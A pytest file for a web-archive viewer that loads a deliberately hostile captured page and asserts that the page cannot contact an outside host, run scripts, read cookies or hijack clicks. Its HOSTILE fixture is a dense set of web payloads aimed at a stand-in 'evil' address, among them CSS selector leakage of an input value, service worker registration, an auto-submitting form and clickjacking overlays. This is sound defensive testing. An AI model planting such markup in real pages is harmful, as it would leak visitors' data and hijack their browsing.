"""Of a hostile captured page nothing comes in a real browser but its words."""

import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from queue import SimpleQueue
from threading import Thread

import httpx
import pytest
from browsing import browsing, path
from conftest import Answer, Site
from kept_pages import LANTERN, keep, page
from room_browser import visiting

__all__ = ["path"]

pytestmark = pytest.mark.slow


@dataclass(frozen=True, kw_only=True)
class Door:
    """Where a page might connect to."""

    address: str
    knocks: SimpleQueue[str]
    """Who came: a connection counts, whether anything is asked or not."""


@contextmanager
def a_door() -> Iterator[Door]:
    with socket.create_server(("127.0.0.1", 0)) as seed:
        door = Door(address=f"http://127.0.0.1:{seed.getsockname()[1]}", knocks=SimpleQueue())

        def turn_away() -> None:
            with suppress(OSError):  # the test has ended
                while True:
                    guest, name = seed.accept()
                    guest.close()
                    door.knocks.put(str(name))

        thread = Thread(target=turn_away)
        thread.start()
        yield door
        seed.shutdown(socket.SHUT_RDWR)
        thread.join()


HOSTILE = """<!doctype html><html manifest="{evil}/manifest"><head>
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta http-equiv="refresh" content="0; url={evil}/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url">
<base href="{evil}/base/" target="_top">
<link rel="preconnect" href="{evil}"><link rel="prefetch" href="{evil}/prefetch">
<link rel=stylesheet href={evil}/style.css><link rel="preload" as="image" href="{evil}/preload">
<style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font) }}
input[value^="s"] {{ background: url({evil}/begins-with-s) }}
body {{ font-family: x; background: url({evil}/ground); margin: 0; min-height: 3000px }}</style>
<script src="{evil}/script.js"></script>
<script>
top.location = "{evil}/top"; open("{evil}/window"); fetch("{evil}/fetch"); fetch("{home}/archive");
document.cookie = "a=b"; document.write("SCRIPTS" + " RUN" + document.cookie);
navigator.serviceWorker.register("{evil}/worker.js"); opener.location = "{evil}/opener";
parent.location = "{evil}/parent"; localStorage.setItem("a", "b"); new WebSocket("{evil}");
</script></head>
<body onload="document.forms[0].submit()">
<p>The lantern was refused.</p><img src="{evil}/image" onerror="document.write('SCRIPTS' + ' RUN')">
<img srcset="{evil}/srcset 1x"><video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<iframe src="{evil}/frame"></iframe>
<iframe srcdoc="&lt;link rel=preconnect href={evil}&gt;"></iframe>
<iframe src="{home}/archive"></iframe><iframe src="/signet-2@1/page"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<svg><image href="{evil}/svg"/><use xlink:href="{evil}/use#a"/></svg>
<input value="secret"><link rel="dns-prefetch" href="{evil}"><a href="{evil}/x" download autofocus>
<math href="{evil}/math"></math><portal src="{evil}/portal"></portal>
<form action="{evil}/form" method="post" target="_top"><button autofocus
 style="position: fixed; left: 50%; top: 0; width: 50%; height: 100%">Send</button></form>
<a href="{evil}/link" ping="{evil}/ping"
 style="position: fixed; left: 0; top: 0; width: 50%; height: 100%">Read on</a>
"""


def test_of_a_hostile_captured_page_nothing_comes_but_its_words(path: Path, site: Site) -> None:
    keep(path, page("Secret"), site_id="2")
    with (
        a_door() as evil,
        a_door() as known,
        browsing(path) as served,
        visiting(served.home) as visitor,
    ):
        tab = visitor.page
        hostile, tame = (
            HOSTILE.format(evil=door.address, home=served.home) for door in (evil, known)
        )
        keep(path, page(hostile, url=f"{LANTERN}/{'a' * 150}"))
        story = httpx.get(f"{served.home}/story/signet-1", follow_redirects=True).text
        [link] = {*re.findall('href="(http[^"]+/signet-1@1)"', story)}
        tab.goto(f"{served.home}/story/signet-1")  # whose cookies it must not see
        tab.set_viewport_size({"width": 800, "height": 900})
        tab.goto(link)
        tab.mouse.click(200, 600)
        tab.mouse.click(600, 600)
        shown = " ".join(frame.locator("html").text_content() or "" for frame in tab.frames)
        pages = [one.url for one in tab.context.pages]
        cookies = tab.evaluate("document.cookie")
        tab.set_viewport_size({"width": 390, "height": 900})
        tab.goto(link)
        width = tab.evaluate("document.documentElement.scrollWidth")
        stops = ("content", "archive", "story", "original", "file", "record", "frame")
        for _ in stops:
            tab.keyboard.press("Tab")
        focus = tab.evaluate("document.activeElement.title")
        # What the same page does where nobody hinders it; by then the first has done all it does.
        site.pages["/"] = Answer(body=tame)
        tab.goto(f"{site.home}/", wait_until="commit")
        known.knocks.get(timeout=300)
        visitor.wrong.clear()  # what the browser refuses it tells as an error
    assert evil.knocks.empty()
    assert "The lantern was refused." in shown
    assert "Read on" in shown
    assert "SCRIPTS RUN" not in shown
    assert "Secret" not in shown
    assert pages == [link]
    assert "ds_csrftoken" in cookies  # the room's come here, for cookies don't know ports
    assert "ds_csrftoken" not in shown
    assert "a=b" not in cookies
    assert (width, focus) == (390, "The captured page of signet-1@1")
